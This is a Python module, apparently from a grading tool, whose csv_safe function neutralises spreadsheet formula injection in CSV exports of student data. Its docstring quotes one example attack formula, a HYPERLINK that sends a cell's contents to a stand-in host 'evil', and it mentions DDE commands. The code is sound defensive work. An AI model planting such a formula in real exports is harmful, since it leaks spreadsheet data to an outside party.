"""Making untrusted text safe for the places it ends up in: spreadsheet cells (CSV exports).

Student ids, names and feedback (which quotes student output and exception messages) are untrusted. A CSV cell
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a formula by Excel, LibreOffice
and Google Sheets ("CSV injection"), e.g. ``=HYPERLINK("http://evil/?"&A1)`` or a DDE command. :func:`csv_safe`
prefixes such cells with an apostrophe, which every spreadsheet shows as plain text.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
_INVISIBLE = re.compile(r"^[\s\u00a0\u200b-\u200f\u2060\ufeff]+")


def csv_safe(text: Any) -> str:
    """Return ``text`` as a string that no spreadsheet will evaluate as a formula.

    Cells whose first visible character could start a formula (``= + - @``, their full-width forms, a tab, a
    carriage return or a line feed, also after leading spaces or invisible characters) get a leading ``'``.
    Plain numbers such as ``-3.5`` are left alone so numeric columns stay numeric.

    Args:
        text: Any value; None becomes an empty string, everything else is converted with ``str``.

    Returns:
        The safe cell text.
    """
    if text is None:
        return ""
    value = text if isinstance(text, str) else str(text)
    if not value or _PLAIN_NUMBER.match(value):
        return value
    visible = _INVISIBLE.sub("", value)
    if value.startswith(FORMULA_TRIGGERS) or visible.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value
